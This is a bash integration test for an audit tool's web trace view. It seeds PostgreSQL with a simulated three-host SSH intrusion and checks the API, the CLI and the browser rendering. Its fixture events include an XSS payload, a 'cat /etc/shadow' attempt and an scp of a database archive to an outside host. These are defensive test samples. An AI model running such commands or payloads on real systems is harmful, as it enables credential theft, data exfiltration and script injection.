#!/usr/bin/env bash
# `auditlens web --postgres` on a three-host trace in a private PostgreSQL (tests/pg/pg_server.sh,
# the agent's own schema): web-1 → db-1 → backup-1 joined by Community ID. The API's trace is the
# CLI's; in headless Chromium (tests/web/trace_check.py) the trace page draws the hosts as boxes and
# the hops as arrows, a click on a hop opens that host's timeline, a connection links to the
# session it opened, a hostile command line is text. Screenshots: $BUILD_DIR/test-artifacts/web/.
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
SOURCE_DIR=${SOURCE_DIR:-$(cd "$HERE/../.." && pwd)}
AUDITLENS=${AUDITLENS:?set AUDITLENS to the auditlens binary}
PY=/usr/bin/python3
command -v chromium >/dev/null && $PY -c 'import websocket' 2>/dev/null ||
  { echo "test_web_trace: needs chromium and python3-websocket (scripts/install-deps.sh test)" >&2; exit 1; }
source "$HERE/pg_test.sh"
pg_test_init web_trace
SHOTS=${BUILD_DIR:-$T}/test-artifacts/web
WEB=

pg_apply_schema "$SOURCE_DIR"

HOSTILE='<img src=x onerror="window.__pwned=1;document.title=1">'
T0=$(( $(date +%s) * 1000 - 3600000 ))
$PY - "$T0" "$HOSTILE" >"$T/rows.sql" <<'PY'
import json, sys
t0, hostile = int(sys.argv[1]), sys.argv[2]
out = []
def q(v):
    if v is None: return "NULL"
    if isinstance(v, int): return str(v)
    return "'" + str(v).replace("'", "''") + "'"
def session(host, sid, user, start, cid, src, dst):
    out.append(f"INSERT INTO auditlens.sessions(host, boot_id, id, ses, auid, \"user\", service, source_ip, source_port, dest_ip, dest_port, terminal, start_ms, end_ms, last_seen_ms, state, failures, from_proc, community_id) VALUES ({q(host)}, 'b', {q(sid)}, 7, 1000, {q(user)}, 'sshd', {q(src[0])}, {src[1]}, {q(dst[0])}, {dst[1]}, 'ssh', {start}, {start + 600000}, {start + 600000}, 'closed', 0, 0, {q(cid)});")
serial = [0]
def execute(host, sid, t, entity, parent, role, args, code=0):
    serial[0] += 1
    detail = json.dumps({"exe": "/usr/bin/" + args[0], "args": args, "cwd": "/home/x"})
    out.append(f"INSERT INTO auditlens.events(host, boot_id, time_ms, serial, session_id, entity_id, pid, uid, kind, action, outcome, role, detail) VALUES ({q(host)}, 'b', {t}, {serial[0]}, {q(sid)}, {q(entity)}, {100 + serial[0]}, 1000, 'exec', 'execve', 'success', {q(role)}, {q(detail)});")
    out.append(f"INSERT INTO auditlens.processes(host, boot_id, entity_id, pid, ppid, parent_entity, exe, args, uid, euid, auid, ses, session_id, role, origin, start_ms, exit_ms, exit_code) VALUES ({q(host)}, 'b', {q(entity)}, {100 + serial[0]}, 99, {q(parent)}, {q('/usr/bin/' + args[0])}, {q(json.dumps(args))}, 1000, 1000, 1000, 7, {q(sid)}, {q(role)}, 'exec', {t}, {t + 5000}, {code});")
def connect(host, sid, t, entity, local, remote, cid):
    serial[0] += 1
    detail = json.dumps({"op": "connect", "family": "inet", "transport": "tcp", "local": {"ip": local[0], "port": local[1]}, "remote": {"ip": remote[0], "port": remote[1]}, "community_id": cid})
    out.append(f"INSERT INTO auditlens.events(host, boot_id, time_ms, serial, session_id, entity_id, pid, uid, kind, action, outcome, role, detail) VALUES ({q(host)}, 'b', {t}, {serial[0]}, {q(sid)}, {q(entity)}, 100, 1000, 'network', 'connect', 'success', 'command', {q(detail)});")
    out.append(f"INSERT INTO auditlens.connections(host, boot_id, time_ms, serial, session_id, entity_id, pid, op, direction, transport, local_ip, local_port, remote_ip, remote_port, community_id) VALUES ({q(host)}, 'b', {t}, {serial[0]}, {q(sid)}, {q(entity)}, 100, 'connect', 'outbound', 'tcp', {q(local[0])}, {local[1]}, {q(remote[0])}, {remote[1]}, {q(cid)});")

session("web-1", "aa-1", "alice", t0, "1:outside", ("198.51.100.7", 50000), ("10.9.0.1", 22))
execute("web-1", "aa-1", t0 + 100, "a-sh", None, "shell", ["-bash"])
execute("web-1", "aa-1", t0 + 2000, "a-id", "a-sh", "command", ["id"])
execute("web-1", "aa-1", t0 + 4000, "a-ssh", "a-sh", "command", ["ssh", "bob@10.9.0.2"])
connect("web-1", "aa-1", t0 + 4010, "a-ssh", ("10.9.0.1", 40001), ("10.9.0.2", 22), "1:hop12")

session("db-1", "bb-2", "bob", t0 + 4300, "1:hop12", ("10.9.0.1", 40001), ("10.9.0.2", 22))
execute("db-1", "bb-2", t0 + 4400, "b-sh", None, "shell", ["-bash"])
execute("db-1", "bb-2", t0 + 6000, "b-psql", "b-sh", "command", ["psql", "-c", "select 1"])
execute("db-1", "bb-2", t0 + 8000, "b-echo", "b-sh", "command", ["echo", hostile])
execute("db-1", "bb-2", t0 + 9000, "b-cat", "b-sh", "command", ["cat", "/etc/shadow"], code=1)
execute("db-1", "bb-2", t0 + 10000, "b-ssh", "b-sh", "command", ["ssh", "backup@10.9.0.3"])
connect("db-1", "bb-2", t0 + 10010, "b-ssh", ("10.9.0.2", 40002), ("10.9.0.3", 22), "1:hop23")

session("backup-1", "cc-3", "backup", t0 + 10300, "1:hop23", ("10.9.0.2", 40002), ("10.9.0.3", 22))
execute("backup-1", "cc-3", t0 + 10400, "c-sh", None, "shell", ["-bash"])
execute("backup-1", "cc-3", t0 + 12000, "c-tar", "c-sh", "command", ["tar", "czf", "/tmp/db.tgz", "/var/lib/db"])
execute("backup-1", "cc-3", t0 + 14000, "c-scp", "c-sh", "command", ["scp", "/tmp/db.tgz", "out@203.0.113.5:"])
print("\n".join(out))
PY
pg_psql "$T/pg" -f "$T/rows.sql" >/dev/null

WEB_PORT=$(pg_free_port)
# A config without a store: the fleet database alone (whatever store this machine has).
printf '[store]\nenabled = false\n' >"$T/web.toml"
"$AUDITLENS" web --config "$T/web.toml" --postgres "$PG_URL" --listen "127.0.0.1:$WEB_PORT" --token-file "$T/web-token" >"$T/web.out" 2>"$T/web.err" &
WEB=$!
trap 'kill $WEB 2>/dev/null || true; pg_stop_all; rm -rf "$T"' EXIT
for _ in $(seq 50); do grep -q serving "$T/web.out" 2>/dev/null && break; sleep 0.1; done
check "auditlens web serves the fleet database (no store)" grep -q "serving http://127.0.0.1:$WEB_PORT/ (no store, fleet database" "$T/web.out"
TOKEN=$(cat "$T/web-token")
U=http://127.0.0.1:$WEB_PORT
curl -s -H "Authorization: Bearer $TOKEN" "$U/api/trace?id=bb-2&host=db-1" >"$T/trace.json"
"$AUDITLENS" trace --postgres "$PG_URL" db-1:bb-2 --json >"$T/trace-cli.json"
check "the API's trace is the CLI's (three hops)" $PY -c '
import json, sys
a, b = json.load(open(sys.argv[1])), json.load(open(sys.argv[2]))
sys.exit(0 if a == b and [h["host"] for h in a["hops"]] == ["web-1", "db-1", "backup-1"] else 1)' "$T/trace.json" "$T/trace-cli.json"
curl -s -H "Authorization: Bearer $TOKEN" "$U/api/timeline?id=aa-1&host=web-1" >"$T/web1.json"
check "web-1's timeline links its connect to db-1's session" $PY -c '
import json, sys
t = json.load(open(sys.argv[1]))
l = t["links"]
sys.exit(0 if len(l) == 1 and l[0]["host"] == "db-1" and l[0]["id"] == "bb-2" and t["entries"][l[0]["entry"]]["kind"] == "network" and t["source"] == "fleet" else 1)' "$T/web1.json"
check "unknown fleet session: 404" test "$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $TOKEN" "$U/api/trace?id=zz-9&host=db-1")" = 404
check "unknown fleet session's timeline: 404" test "$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $TOKEN" "$U/api/timeline?id=zz-9&host=db-1")" = 404
check "no store: sessions 404" test "$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $TOKEN" "$U/api/sessions")" = 404

mkdir -p "$SHOTS"
set +e
$PY "$SOURCE_DIR/tests/web/trace_check.py" --url "$U" --token "$TOKEN" --shots "$SHOTS" --hostile "$HOSTILE" >"$T/browser.out" 2>&1
RC=$?
set -e
cat "$T/browser.out"
check "the trace page works in Chromium (trace_check.py: $(tail -1 "$T/browser.out"))" test $RC -eq 0
kill -TERM $WEB
wait $WEB && rc=0 || rc=$?
check "auditlens web exits 0 on SIGTERM" test $rc -eq 0
pg_test_finish
